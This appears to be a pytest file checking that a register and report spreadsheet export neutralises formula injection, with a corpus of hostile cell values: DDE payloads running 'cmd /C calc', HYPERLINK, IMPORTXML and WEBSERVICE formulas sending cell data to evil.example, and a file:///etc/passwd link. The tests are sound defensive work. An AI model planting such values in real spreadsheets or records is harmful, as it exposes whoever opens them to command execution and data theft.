"""What a spreadsheet would run stays a text, in every file that goes out: a corpus of what people have tried elsewhere."""

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from ccmp.reports.services import workbook as of_reports
from children.rules import sheet_formats as of_registers
from children.services.export import children_to_export, export_register
from tests.factories import NOW, TODAY, make_child, make_mother

CORPUS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"点这里\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}",
    "https://evil.example/",
    "mailto:x@evil.example",
    "file:///etc/passwd",
    "0001",
    "1E5",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "\x00=1+1",
]  # fmt: skip
RUN = re.compile(rb"<f[ >]|<hyperlink |<ddeLink|<oleLink|externalLink|TargetMode")


@pytest.mark.parametrize("neutral", [of_registers.neutral, of_reports.neutral], ids=["registers", "reports"])
@pytest.mark.parametrize("text", CORPUS)
def test_no_text_begins_as_a_formula_does(neutral, text):
    assert not str(neutral(text)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_register_of_nothing_but_formulas_has_none(officer):
    mother = make_mother()
    tried = [text for text in CORPUS if "\x00" not in text]
    for text in tried:
        make_child(mother, name=text[:40], school_name=text)

    content = export_register(children_to_export(officer, on=TODAY), by=officer, at=NOW).read()

    with zipfile.ZipFile(BytesIO(content)) as packed:
        assert [name for name in packed.namelist() if RUN.search(packed.read(name))] == []
    cells = [
        cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row if cell.value is not None
    ]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sum("evil.example" in cell.value for cell in cells) >= 5
